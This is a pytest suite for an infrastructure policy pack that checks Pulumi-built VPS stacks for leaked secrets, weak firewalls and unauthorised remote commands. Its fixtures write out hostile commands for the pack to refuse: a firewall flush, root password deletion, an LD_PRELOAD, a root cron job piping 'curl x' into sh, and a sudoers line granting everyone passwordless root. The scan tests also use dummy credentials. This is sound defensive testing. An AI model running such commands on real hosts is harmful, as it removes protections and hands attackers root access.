    with analysing(stacks[stack]):  # not this stack's first boot: the render for its config has no such file
        (refused,) = check_resource(first_boot_present, server, props)
    assert "/root/.ssh/id_ed25519" in refused and "holds files the render does not" in refused
    (message,) = check_resource(first_boot_secrets, server, props)
    assert "private key" in message and "root/.ssh/id_ed25519:1" in message
    assert "> xz > root/.ssh/id_ed25519" in message and names_resource_and_fix(message, server)


@pytest.mark.parametrize(("content", "what"), [
    (f"DIGITALOCEAN_TOKEN={DO_TOKEN}\n", "DigitalOcean API token"),
    (f"[default]\naws_access_key_id = {AWS_KEY_ID}\n", "AWS access key id"),
    ("DATABASE_URL=postgres://app:Sup3rS3cret@db.internal/app\n", "password in a URL"),
    ("SMTP_PASSWORD=correct-horse-battery\n", "credential assignment"),
    ("Authorization: Bearer abcdefghijklmnop1234\n", "bearer/basic credential"),
])
def test_tokens_and_passwords_in_bundled_files_are_found(stacks: dict[str, StackCase], content: str,
                                                         what: str) -> None:
    server = stacks["linode-dev"].one(LINODE_INSTANCE)
    data = _rendered_with("linode-dev", HostFile("/etc/hvps/app.env", content, "0600"))
    messages = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
    assert any(what in m and "etc/hvps/app.env" in m for m in messages), messages
    secret_value = content.split("=", 1)[-1].split(":")[-1].strip()
    assert all(secret_value not in m for m in messages)  # never echo the secret


def test_secrets_in_the_cloud_config_itself_are_found(stacks: dict[str, StackCase]) -> None:
    server = stacks["do-dev"].one(DROPLET)
    extra = ("chpasswd:\n  expire: false\n  users:\n  - {name: root, password: hunter2hunter2, type: text}\n"
             "write_files:\n- path: /root/key.b64\n  encoding: b64\n  content: "
             + base64.b64encode(PRIVATE_KEY.encode()).decode() + "\n")
    data = plain(server.inputs["userData"]).replace("\nwrite_files:\n", "\n" + extra, 1)  # before the bundle's entry
    with analysing(stacks["do-dev"]):
        (refused,) = check_resource(first_boot_present, server, _first_boot_props(server, data))
    assert "differs from a fresh render" in refused  # and the secrets scan still names what it holds:
    messages = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
    assert any("cloud-config password" in m and "chpasswd.users[0].password" in m for m in messages), messages
    assert any("private key" in m and "base64" in m for m in messages), messages
    assert all("hunter2" not in m for m in messages)


def test_launch_script_lines_are_scanned(stacks: dict[str, StackCase]) -> None:
    server = stacks["lightsail-dev"].one(LIGHTSAIL_INSTANCE)
    data = plain(server.inputs["userData"]).replace("set -eu\n",
                                             f"set -eu\nexport GITHUB_TOKEN=ghp_{'a1B2' * 9}\n", 1)
    lineno = data.splitlines().index(f"export GITHUB_TOKEN=ghp_{'a1B2' * 9}") + 1
    (message,) = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
    assert "GitHub token" in message and f"userData:{lineno}" in message


def test_multipart_user_data_parts_are_scanned(stacks: dict[str, StackCase]) -> None:
    server = stacks["linode-dev"].one(LINODE_INSTANCE)
    message = MIMEMultipart()
    message.attach(MIMEText(f"#!/bin/sh\necho {DO_TOKEN} > /root/.token\n", "x-shellscript"))
    data = base64.b64encode(gzip.compress(message.as_string().encode())).decode()
    (finding,) = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
    assert "DigitalOcean API token" in finding and "part 1" in finding and DO_TOKEN not in finding


# Encodings a secret may be hidden in. The scan decodes each of them, or refuses what it cannot read.
def _wrap(value: str, width: int) -> str:
    return "".join(value[i:i + width] + "\n" for i in range(0, len(value), width))


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


KEY_BYTES = (PRIVATE_KEY + "# ~~~>>>???\n").encode()  # the comment puts + and / in its base64
PPK = ("PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none\nComment: test\nPublic-Lines: 2\n"
       "AAAAC3NzaC1lZDI1NTE5AAAAIFQ+WcI53fHeIf/+stPF+ivnechQ5PAbCTitw6VKY85w\nPrivate-Lines: 1\n"
       "AAAAIGmNb4yPyJ6gYmyVJ9Yh3aIxe3K5xLd3x8zDdNfj8ZAx\n")
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYZ7EXAMPLEZ"  # the shape of an AWS secret access key (40 chars)


@pytest.mark.parametrize(("content", "what", "layer"), [
    pytest.param(_wrap(_b64(KEY_BYTES), 12), "private key", "base64", id="base64-wrapped-at-12"),
    pytest.param(_wrap(_b64(KEY_BYTES), 4), "private key", "base64", id="base64-wrapped-at-4"),
    pytest.param(_b64(lzma.compress(KEY_BYTES)), "private key", "xz", id="xz"),
    pytest.param(_b64(bz2.compress(KEY_BYTES)), "private key", "bz2", id="bz2"),
    pytest.param(base64.urlsafe_b64encode(KEY_BYTES).decode().rstrip("="), "private key", "base64",
                 id="urlsafe-base64-unpadded"),
    pytest.param(KEY_BYTES.hex(), "private key", "hex", id="hex"),
    pytest.param(_wrap(KEY_BYTES.hex(), 60), "private key", "hex", id="hex-wrapped"),
    pytest.param("printf '" + "".join(f"\\x{b:02x}" for b in KEY_BYTES) + "'\n", "private key", "hex",
                 id="hex-escapes"),
    pytest.param(PPK, "private key", "app.env:1", id="putty-ppk"),
    pytest.param(f"{AWS_KEY_ID}\n{AWS_SECRET}\n", "AWS secret access key", "app.env:2", id="aws-pair"),
    pytest.param(f"creds {AWS_SECRET} here\n", "AWS secret access key", "app.env:1", id="aws-secret-alone"),
    pytest.param(_b64(gzip.compress(b"x" * 100) + gzip.compress(KEY_BYTES)), "private key", "gzip",
                 id="second-gzip-member"),
    pytest.param(_b64(gzip.compress(b"\0" * (16 * 1024 * 1024 + 1) + KEY_BYTES)), "over the", "gzip",
                 id="past-the-inflate-limit"),
    pytest.param(_b64(gzip.compress(KEY_BYTES)[:-12]), "does not decompress", "gzip", id="truncated-gzip"),
    pytest.param(_b64(bz2.compress(KEY_BYTES)[:-8]), "does not decompress", "bz2", id="truncated-bz2"),
    pytest.param(_b64(b"\x28\xb5\x2f\xfd" + bytes(range(64))), "cannot open", "zstd", id="zstd"),
])
def test_hidden_secrets_are_found_or_refused(stacks: dict[str, StackCase], content: str, what: str,
                                            layer: str) -> None:
    """Fail closed: a secret in any of these encodings is found; data the scan cannot read is a violation."""
    server = stacks["do-dev"].one(DROPLET)
    data = _rendered_with("do-dev", HostFile("/etc/hvps/app.env", content, "0600"))
    messages = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
    assert any(what in m and layer in m and "etc/hvps/app.env" in m for m in messages), messages
    assert all(names_resource_and_fix(m, server) for m in messages)


@pytest.mark.parametrize("line", [
    pytest.param("a." * 32768, id="a-dot"), pytest.param("a" * 65536, id="one-base64-token"),
    pytest.param("a\n" * 32768, id="base64-block-of-short-lines"), pytest.param("0a" * 32768, id="hex"),
    pytest.param("password=" * 7282, id="assignments"), pytest.param("x://a:" * 10922, id="urls"),
    pytest.param("-----BEGIN " * 5958, id="pem-headers"), pytest.param("Authorization: Bearer " * 2978, id="auth"),
    pytest.param("AKIA" * 16384, id="aws-ids"), pytest.param("\\x41" * 16384, id="hex-escapes"),
    pytest.param("a_-" * 21845, id="urlsafe"), pytest.param("a=" * 32768, id="padding"),
])
def test_secret_scan_is_linear_on_adversarial_input(line: str) -> None:
    """64 KiB crafted to make a backtracking regex or a retrying decoder go quadratic is scanned in well under
    a second (the quadratic scan took 10 s on a quarter of this)."""
    raw = RawFirstBoot(line, "userData")
    started = time.perf_counter()
    find_secrets(raw)
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
def test_only_the_pinned_host_key_may_travel_in_first_boot(stacks: dict[str, StackCase], stack: str) -> None:
    """The host key at its one path is the project's own (secret user data); the same key anywhere else is not."""
    server = stacks[stack].one(SERVER_OF[stack])
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
    assert any(f.path == HOST_KEY_PATH for f in describe_first_boot(spec).files)
    assert check_resource(first_boot_secrets, server, server.inputs) == []  # as the program sends it
    data = _rendered_with(stack, HostFile(HOST_KEY_PATH + ".bak", PRIVATE_KEY, "0600"))
    (message,) = check_resource(first_boot_secrets, server, _first_boot_props(server, data))
    assert "private key" in message and "ssh_host_ed25519_key.bak:1" in message


def _tar(name: str, content: str) -> bytes:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.GNU_FORMAT) as tar:
        info = tarfile.TarInfo(name)
        info.size = len(content.encode())
        tar.addfile(info, io.BytesIO(content.encode()))
    return raw.getvalue()


RSA_PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n" \
          "-----END RSA PRIVATE KEY-----\n"


@pytest.mark.parametrize("stack", [*DEV_STACKS, PROD])
@pytest.mark.parametrize("case_", ["nested-bundle", "other-key-at-the-path", "second-key-member", "encrypted-key"])
def test_host_key_exemption_covers_only_the_bundles_own_key(stacks: dict[str, StackCase], stack: str,
                                                            case_: str) -> None:
    """The secrets scan spares one private key: the member at the host-key path of the top-level bundle, once,
    shaped as the program makes it. The same path inside a bundled archive, an RSA or encrypted key there, or a
    second member of that name is reported."""
    server = stacks[stack].one(SERVER_OF[stack])
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
    first_boot = describe_first_boot(spec)
    if case_ == "nested-bundle":
        nested = base64.encodebytes(_tar(HOST_KEY_PATH.lstrip("/"), RSA_PEM)).decode()
        first_boot = replace(first_boot, files=(*first_boot.files, HostFile("/etc/hvps/extra.b64", nested, "0600")))
    elif case_ == "second-key-member":
        first_boot = replace(first_boot, files=(*first_boot.files, HostFile(HOST_KEY_PATH, RSA_PEM, "0600")))
    else:
        key = RSA_PEM if case_ == "other-key-at-the-path" else openssh_key(cipher=b"aes256-ctr")
        first_boot = describe_first_boot(spec, host_key=key)
    props = _first_boot_props(server, render_as_vendor(server.type, first_boot))
    messages = check_resource(first_boot_secrets, server, props)
    # Linode's user data is two layers deeper (base64 of gzip): there the nested copy is past the depth limit,
    # refused as unreadable; everywhere else the key itself is reported.
    expected = "layers deep" if (stack, case_) == ("linode-dev", "nested-bundle") else "plaintext private key"
    assert messages and all(expected in m and "ssh_host_ed25519_key" in m for m in messages), messages
    assert all(names_resource_and_fix(m, server) for m in messages)


def test_clean_first_boot_has_no_findings_in_any_layer(stacks: dict[str, StackCase]) -> None:
    """The scan does reach the bundled files (so a clean result means something)."""
    server = stacks["linode-dev"].one(LINODE_INSTANCE)
    raw = raw_first_boot(server.type, server.inputs)
    assert raw is not None
    expander = Expander()
    expander.textual(raw.where, raw.data)
    layers = [where for where, _ in expander.layers]
    assert any(w.endswith("> usr/local/sbin/hvps-provision") for w in layers), layers
    assert find_secrets(raw) == []


# --- production-backups-and-protection ---------------------------------------------------------------------------
def test_production_server_needs_backups_and_protection(stacks: dict[str, StackCase]) -> None:
    case = stacks[PROD]
    server = case.one(DROPLET)
    with analysing(case):
        assert check_resource(production_safety, server) == []
        (no_backups,) = check_resource(production_safety, server, {**server.inputs, "backups": False})
        (unprotected,) = check_resource(production_safety, server, protect=False)
    assert "backups: true" in no_backups and names_resource_and_fix(no_backups, server)
    assert "protect: true" in unprotected and names_resource_and_fix(unprotected, server)


@pytest.mark.parametrize("stack", DEV_STACKS)
def test_dev_stack_declared_production_needs_backups_and_protection(stacks: dict[str, StackCase],
                                                                   stack: str) -> None:
    case = stacks[stack]
    server = case.one(SERVER_OF[stack])
    with analysing(case):
        assert check_resource(production_safety, server) == []  # not production: no demand
    declared = replace(case, config={**case.config, "hardened-vps:production": "true"})
    with analysing(declared):
        messages = check_resource(production_safety, server)
        backups_on: dict[str, dict[str, Any]] = {
            DROPLET: {"backups": True}, LINODE_INSTANCE: {"backupsEnabled": True},
            LIGHTSAIL_INSTANCE: {"addOn": {"type": "AutoSnapshot", "status": "Enabled", "snapshotTime": "04:00"}}}
        assert check_resource(production_safety, server, {**server.inputs, **backups_on[server.type]},
                              protect=True) == []
    assert len(messages) == 2 and all(names_resource_and_fix(m, server) for m in messages)


# --- server-size-in-catalog --------------------------------------------------------------------------------------
@pytest.mark.parametrize(("stack", "slug"), [("do-dev", "s-8vcpu-16gb"), ("linode-dev", "g6-dedicated-2"),
                                             ("lightsail-dev", "xlarge_3_0"), (PROD, "")])
def test_size_outside_the_catalog_is_refused(stacks: dict[str, StackCase], stack: str, slug: str) -> None:
    server = stacks[stack].one(SERVER_OF[stack])
    key = SIZE_INPUT[server.type]
    (message,) = check_resource(catalog_sizes, server, {**server.inputs, key: slug})
    assert "catalog" in message and names_resource_and_fix(message, server)
    assert server.inputs[key] in message  # the allowed plans are listed, the current one among them


# --- bypasses: a firewall that does not filter, SSH "restricted" by spelling only -------------------------------
def test_disabled_linode_firewall_is_refused(stacks: dict[str, StackCase]) -> None:
    """Linode does not enforce a disabled firewall's rules: it opens every port and protects no instance."""
    case = stacks["linode-dev"]
    firewall, server = case.one(LINODE_FIREWALL), case.one(LINODE_INSTANCE)
    messages = check_resource(inbound_ports, firewall, {**firewall.inputs, "disabled": True})
    assert any("disabled" in m and "every port of every protocol" in m for m in messages), messages
    disabled = [replace(r, outputs={**r.outputs, "disabled": True}) if r is firewall else r for r in case.resources]
    ((message, urn),) = check_stack(disabled)
    assert urn == server.urn and "disabled" in message and names_resource_and_fix(message, server)
    status_off = [replace(r, outputs={**r.outputs, "status": "disabled"}) if r is firewall else r
                  for r in case.resources]
    ((message, urn),) = check_stack(status_off)
    assert urn == server.urn and "disabled" in message


@pytest.mark.parametrize("sources", [
    ["0.0.0.0/1", "128.0.0.0/2", "192.0.0.0/3", "2000::/3"],  # all public space, no /0 spelled
    ["1.0.0.0/8", "2.0.0.0/8"],  # two /8s: more than a /8 of IPv4
    ["2001:db8:1234::/48", "2600::/16"],  # a /16 of IPv6
    [f"{n}.0.0.0/9" for n in range(1, 40)],  # many narrow-looking rules, wide together
    ["::ffff:0.0.0.0/97", "::ffff:128.0.0.0/97"],  # all of IPv4, written as IPv4-mapped IPv6
])
def test_production_ssh_judged_by_address_space(stacks: dict[str, StackCase], sources: list[str]) -> None:
    case = stacks[PROD]
    firewall = case.one(DO_FIREWALL)
    with analysing(case):
        (message,) = check_resource(ssh_restricted_in_production, firewall, _ssh_from_anywhere(firewall, sources))
    assert "production" in message and names_resource_and_fix(message, firewall)
    assert "more than a /8 of IPv4 or a /32 of IPv6" in message


def test_ssh_space_is_added_up_over_every_rule_of_a_firewall(stacks: dict[str, StackCase]) -> None:
    """Splitting the wide range over several rules does not make it narrow."""
    case = stacks[PROD]
    firewall = case.one(DO_FIREWALL)
    props = copy.deepcopy(firewall.inputs)
    props["inboundRules"] += [{"protocol": "tcp", "portRange": "22", "sourceAddresses": [f"{n}.0.0.0/9"]}
                              for n in (11, 12, 13)]  # three /9s: more than a /8 together
    with analysing(case):
        assert check_resource(ssh_restricted_in_production, firewall) == []
        (message,) = check_resource(ssh_restricted_in_production, firewall, props)
    assert all(f"inboundRules[{i}]" in message for i in (3, 4, 5))


@pytest.mark.parametrize("sources", [
    ["203.0.113.0/24", "2001:db8:1234::/48"],  # the prod stack's own ranges
    ["11.0.0.0/8"],  # exactly a /8: the limit
    ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "198.51.100.7/32"],  # private space is not the internet
    ["2a01:4f8::/32", "fd00::/8"],  # a /32 of global IPv6 and unique-local space
])
def test_production_ssh_from_narrow_ranges_passes(stacks: dict[str, StackCase], sources: list[str]) -> None:
    case = stacks[PROD]
    firewall = case.one(DO_FIREWALL)
    with analysing(case):
        assert check_resource(ssh_restricted_in_production, firewall, _ssh_from_anywhere(firewall, sources)) == []


# --- resource-types-allowed --------------------------------------------------------------------------------------
def _foreign(case: StackCase, type_: str) -> Registered:
    """A resource of `type_` registered beside the stack's host: no firewall, no first boot."""
    stack_urn = next((r.urn for r in case.resources if r.type == "pulumi:pulumi:Stack"), "")
    name = "side-door"
    return Registered(urn=f"urn:pulumi:{case.stack}::hardened-vps::{type_}::{name}", type=type_, name=name,
                      parent=stack_urn, protect=False, ignore_changes=[], delete_before_replace=False,
                      dependencies=[], property_dependencies={}, inputs={}, outputs={"id": "1"})


@pytest.mark.parametrize("type_", [
    "aws:ec2/instance:Instance", "aws:ec2/spotInstanceRequest:SpotInstanceRequest", "aws:lambda/function:Function",
    "aws:lightsail/containerService:ContainerService", "aws:lightsail/database:Database",
    "digitalocean:index/app:App", "digitalocean:index/dropletAutoscale:DropletAutoscale",
    "digitalocean:index/kubernetesCluster:KubernetesCluster", "digitalocean:index/dropletSnapshot:DropletSnapshot",
    "linode:index/instanceConfig:InstanceConfig", "linode:index/lkeCluster:LkeCluster",
    "hcloud:index/server:Server", "gcp:compute/instance:Instance", "pulumi-python:dynamic:Resource",
    "command:local:Command",
])
def test_compute_the_product_does_not_build_is_refused(stacks: dict[str, StackCase], type_: str) -> None:
    for case in stacks.values():
        extra = _foreign(case, type_)
        ((message, urn),) = check_stack([*case.resources, extra])  # every stack policy: only this one objects
        assert urn == extra.urn and type_ in message and names_resource_and_fix(message, extra)


def _every_option(vendor: str, region: str) -> dict[str, str]:
    return full_config(vendor=vendor, region=region, domain="app.example.com", acmeEmail="ops@example.com",
                       backups=True, production=True, protect=True, appSource="examples/flask-app",
                       adminUser="ops-admin_2")


@pytest.mark.parametrize(("vendor", "region"), [("digitalocean", "fra1"), ("linode", "fr-par"),
                                                ("lightsail", "us-east-1")])
def test_every_type_the_product_builds_is_allowed(vendor: str, region: str) -> None:
    """With every option that adds resources on (DNS, app releases), the product's types all pass; so does its
    first boot, rendered for an admin account other than the default."""
    config = _every_option(vendor, region)
    if vendor == "lightsail":
        config["aws:region"] = region
    run = run_program(config)
    pulumi.runtime.set_all_config({})
    types = {r.type for r in run.resources}
    assert any(t in SERVER_VENDORS for t in types) and any("dns" in t.lower() or "domain" in t.lower()
                                                              for t in types), types
    assert [t for t in types if type_not_allowed(t)] == []
    (server,) = [r for r in run.resources if r.type in SERVER_VENDORS]
    raw = raw_first_boot(server.type, server.inputs)
    spec = parse_host_spec({k.removeprefix("hardened-vps:"): v for k, v in config.items()
                            if k.startswith("hardened-vps:")}, stack="test")
    assert raw is not None and check_first_boot(server.type, raw, spec).problem is None
    assert find_secrets(raw) == []


# --- remote-commands-are-the-products ------------------------------------------------------------------------------
def _release(case: StackCase, name_end: str) -> Registered:
    (found,) = [r for r in case.resources if r.type.startswith("command:remote:") and r.name.endswith(name_end)]
    return found


def _with_inputs(case: StackCase, reg: Registered, **inputs: Any) -> StackCase:
    """The stack with one resource's inputs (and outputs) changed; None removes an input."""
    def edit(values: dict[str, Any]) -> dict[str, Any]:
        return {k: v for k, v in {**values, **inputs}.items() if v is not None}
    return replace(case, resources=[replace(r, inputs=edit(r.inputs), outputs=edit(r.outputs)) if r is reg else r
                                    for r in case.resources])


def _mandatory(case: StackCase) -> list[tuple[str, str, str]]:
    return [(v.policy, v.resource, v.message) for v in evaluate(case) if v.mandatory]


def _connection(reg: Registered, **changes: Any) -> dict[str, Any]:
    wrapped = copy.deepcopy(reg.inputs["connection"])
    plain(wrapped).update(changes)
    return dict(wrapped)


NOT_THE_PRODUCTS = "neither the product's first-boot readiness wait"


@pytest.mark.parametrize(("edit", "why"), [
    pytest.param(lambda c: {"create": "sudo nft flush ruleset; " + c}, NOT_THE_PRODUCTS,
                 id="firewall-flushed-first"),
    pytest.param(lambda c: {"create": c + "; sudo passwd -d root"}, NOT_THE_PRODUCTS,
                 id="appended-command"),
    pytest.param(lambda c: {"update": "sudo nft flush ruleset"}, "sets update", id="update-command"),
    pytest.param(lambda c: {"delete": "sudo rm -rf /etc/nftables.conf"}, "sets delete", id="delete-command"),
    pytest.param(lambda c: {"environment": {"LD_PRELOAD": "/tmp/x.so"}}, "sets environment", id="environment"),
])
def test_a_remote_command_other_than_the_deploy_is_refused(stacks: dict[str, StackCase], edit: Any, why: str) -> None:
    """A command:remote:Command connects as the admin (sudo without password): only the product's deploy may run."""
    case = stacks[PROD]
    deploy = _release(case, "-deploy")
    ((policy, resource, message),) = _mandatory(_with_inputs(case, deploy, **edit(deploy.inputs["create"])))
    assert policy == "remote-commands-are-the-products" and deploy.name in resource
    assert why in message and names_resource_and_fix(message, deploy)


def test_the_deploy_must_run_as_the_admin_with_the_host_key_pinned(stacks: dict[str, StackCase]) -> None:
    case = stacks[PROD]
    deploy = _release(case, "-deploy")
    for change, why in (({"user": "root"}, "not as the admin account"), ({"hostKey": ""}, "host key"),
                        ({"proxy": {"host": "203.0.113.9"}}, "connection sets proxy")):
        ((policy, _, message),) = _mandatory(_with_inputs(case, deploy, connection=_connection(deploy, **change)))
        assert policy == "remote-commands-are-the-products" and why in message


@pytest.mark.parametrize(("upload", "target", "why"), [
    pytest.param("-script", "/etc/sudoers.d/00-all", "copies to '/etc/sudoers.d/00-all'", id="outside-uploads"),
    pytest.param("-script", "/home/deploy/.hvps-uploads/hvps-release-0000000000000000.sh", "copies to",
                 id="another-name-in-the-upload-dir"),
    pytest.param("-archive", None, "source is not the file", id="other-archive-content"),
    pytest.param("-script", None, "source is not the file", id="other-script-content"),
])
def test_an_upload_other_than_the_release_is_refused(stacks: dict[str, StackCase], tmp_path: Path, upload: str,
                                                     target: str | None, why: str) -> None:
    """CopyToRemote drops files as the admin: only the release script and this release's app archive, by content,
    at the paths the product names."""
    case = stacks[PROD]
    reg = _release(case, upload)
    other = tmp_path / "other"
    other.write_text("#!/bin/sh\nsudo nft flush ruleset\n")
    edited = _with_inputs(case, reg, remotePath=target) if target else _with_inputs(
        case, reg, source=pulumi.FileAsset(str(other)))
    ((policy, resource, message),) = _mandatory(edited)
    assert policy == "remote-commands-are-the-products" and reg.name in resource
    assert why in message and names_resource_and_fix(message, reg)


def test_a_remote_command_in_a_stack_without_an_app_is_refused(stacks: dict[str, StackCase]) -> None:
    deploy = _release(stacks[PROD], "-deploy")
    case = stacks["do-dev"]
    stranger = replace(deploy, urn=deploy.urn.replace(f"::{PROD}::", "::do-dev::"), parent="")
    found = _mandatory(replace(case, resources=[*case.resources, stranger]))
    assert [(p, m) for p, _, m in found if "appSource is unset" in m] and {p for p, _, _ in found} == {
        "remote-commands-are-the-products"}


def test_other_command_types_are_refused(stacks: dict[str, StackCase]) -> None:
    case = stacks[PROD]
    for type_ in ("command:remote:CopyFile", "command:local:Command"):
        extra = _foreign(case, type_)
        ((message, urn),) = check_stack([*case.resources, extra])
        assert urn == extra.urn and type_ in message


def _stdin_of(files: list[firstboot.HostFile], admin: str) -> str:
    return base64.b64encode(firstboot.bundle(firstboot.FirstBoot(tuple(files), admin))).decode()


@pytest.mark.parametrize("stack", [PROD, *DEV_STACKS])
def test_the_host_converge_is_accepted_exactly_as_the_product_builds_it(stacks: dict[str, StackCase],
                                                                        stack: str) -> None:
    """The converge (HostConfig) passes every policy: its command, its update, and its stdin (this stack's
    converge bundle, which holds no secret)."""
    case = stacks[stack]
    converge = _release(case, "-config-converge")
    assert converge.inputs["create"] == converge.inputs["update"] == firstboot.CONVERGE_COMMAND
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{stack}.yaml")
    assert converge.inputs["stdin"] == base64.b64encode(firstboot.converge_bundle(spec)).decode()
    assert is_converge(converge.type, converge.inputs)
    assert find_secrets(RawFirstBoot(converge.inputs["stdin"], "stdin"), pinned_host_key=False) == []
    assert [v for v in evaluate(case) if converge.name in v.resource] == []
    component = next(r for r in case.resources if r.type.endswith(":HostConfig"))
    assert not type_not_allowed(component.type) and not type_not_allowed(converge.type)
    assert type_not_allowed("command:local:Command")  # the allowlist still refuses commands on this machine


def _converge_variants(case: StackCase, converge: Registered) -> dict[str, dict[str, Any]]:
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{case.stack}.yaml")
    files = list(firstboot.converge_files(spec).files)
    sudoers = next(i for i, f in enumerate(files) if f.path.startswith("/etc/sudoers.d/"))
    opened = [*files[:sudoers], replace(files[sudoers], content="ALL ALL=(ALL) NOPASSWD: ALL\n"), *files[sudoers + 1:]]
    extra = [*files, HostFile("/etc/cron.d/x", "* * * * * root curl x | sh\n")]
    return {
        "sudoers-opened": {"stdin": _stdin_of(opened, spec.admin_user)},
        "extra-file": {"stdin": _stdin_of(extra, spec.admin_user)},
        "update-runs-else": {"update": "sudo nft flush ruleset"},
        "delete-command": {"delete": "sudo rm -rf /etc/nftables.conf"},
        "appended-to-converge": {"create": firstboot.CONVERGE_COMMAND + "; sudo passwd -d root"},
    }


@pytest.mark.parametrize(("variant", "why"), [
    ("sudoers-opened", "its stdin is not this stack's converge bundle"),
    ("extra-file", "its stdin is not this stack's converge bundle"),
    ("update-runs-else", "its update runs something other than"),
    ("delete-command", "sets delete"),
    ("appended-to-converge", "sets update"),  # no longer the converge: its update is what the product never sets
])
def test_a_converge_variant_is_refused(stacks: dict[str, StackCase], variant: str, why: str) -> None:
    case = stacks[PROD]
    converge = _release(case, "-config-converge")
    edited = _with_inputs(case, converge, **_converge_variants(case, converge)[variant])
    found = [(p, r, m) for p, r, m in _mandatory(edited) if p == "remote-commands-are-the-products"]
    ((_, resource, message),) = found
    assert converge.name in resource and why in message and names_resource_and_fix(message, converge)


def test_a_converge_carrying_the_host_key_is_refused_by_the_secrets_scan(stacks: dict[str, StackCase]) -> None:
    """First boot may carry the pinned host key (secret user data); the converge's stdin is a plain input: any
    private key in it, the host key included, is refused, and it is not this stack's converge bundle either."""
    case = stacks[PROD]
    converge = _release(case, "-config-converge")
    spec = load_stack_file(ROOT / "stacks" / f"Pulumi.{PROD}.yaml")
    with_key = _stdin_of(list(firstboot.describe_first_boot(spec).files), spec.admin_user)
    found = {p: m for p, r, m in _mandatory(_with_inputs(case, converge, stdin=with_key)) if converge.name in r}
    assert set(found) == {"first-boot-no-secrets", "remote-commands-are-the-products"}
    assert "private key" in found["first-boot-no-secrets"]


def test_remote_command_check_follows_the_product(stacks: dict[str, StackCase],
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """The pack calls components/app: when the deploy command changes there, the new one passes and the old
    one is refused."""
    from components import app

    case = stacks[PROD]
    deploy = _release(case, "-deploy")
    old = deploy.inputs["create"]
    original = app.deploy_command
    monkeypatch.setattr(app, "deploy_command", lambda *a, **k: original(*a, **k) + " --verbose")
    spec = load_stack_file(ROOT / "stacks" / "Pulumi.prod.yaml")
    shape = remote_shape(spec, with_secrets=False)
    assert old + " --verbose" in shape.commands and old not in shape.commands
    assert _mandatory(_with_inputs(case, deploy, create=old + " --verbose")) == []
    ((_, _, message),) = _mandatory(case)
    assert "neither the product's first-boot readiness wait" in message


def test_git_source_release_passes_and_fails_closed_without_config(stacks: dict[str, StackCase]) -> None:
    """A git appSource: the deploy and the script upload of the product pass; without the stack's config the
    pack cannot tell what the release must be and refuses every remote command."""
    config = full_config(appSource="https://github.com/example/app.git", appRef="v1.2.3")
    _, case = run_case(config)
    commands = sorted(r.type for r in case.resources if r.type.startswith("command:"))
    # readiness wait, host converge, deploy, script
    assert commands == [REMOTE_COMMAND, REMOTE_COMMAND, REMOTE_COMMAND, REMOTE_COPY]
    assert _mandatory(case) == []
    found = [(v.policy, v.message) for v in evaluate(replace(case, config={})) if v.mandatory]
    remote = [m for p, m in found if p == "remote-commands-are-the-products"]
    assert len(remote) == 4 and all("fails closed" in m for m in remote)


@pytest.mark.parametrize("host_name", [f"web{'x' * n}" for n in range(8)])
def test_launch_script_payload_is_never_read_past_its_end(host_name: str) -> None:
    """The heredoc's end line is not base64, so the scan never decodes payload + end line as one block (whose
    trailing bytes after the gzip stream it would refuse): clean for every payload length modulo 4."""
    spec = parse_host_spec(raw_config(vendor="lightsail", region="eu-central-1", hostName=host_name))
    raw = RawFirstBoot(render_first_boot(spec).launch_script, "userData")
    assert find_secrets(raw) == []


def _gzip_body_ending_in_a_40_character_line() -> str:
    """A wrapped base64 body of gzip data whose last line has the shape of an AWS secret access key."""
    noise = b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(64))  # does not compress
    for size in range(200, 2048):
        lines = base64.encodebytes(gzip.compress(noise[:size], mtime=0)).decode().split()
        if len(lines) > 1 and re.fullmatch(r"[A-Za-z0-9+/]{40}", lines[-1]) and _looks_like_aws_secret(lines[-1]):
            return "\n".join(lines)
    raise AssertionError("no such payload")


def test_the_last_line_of_a_wrapped_payload_is_not_an_aws_secret() -> None:
    """A launch script's heredoc ends in a line of any length: 40 mixed-case characters are the end of the gzip
    body, read decoded, not a secret. The same 40 characters as a line of their own after it are still found."""
    body = _gzip_body_ending_in_a_40_character_line()
    end = wire.PAYLOAD_END
    script = f"#!/bin/sh\nbase64 -d >/tmp/x <<'{end}'\n{body}\n{end}\n"
    assert find_secrets(RawFirstBoot(script, "userData")) == []
    leaked = script.replace(f"\n{end}", f"\n{AWS_SECRET}\n{end}")
    assert [f.what for f in find_secrets(RawFirstBoot(leaked, "userData"))] == ["AWS secret access key"]
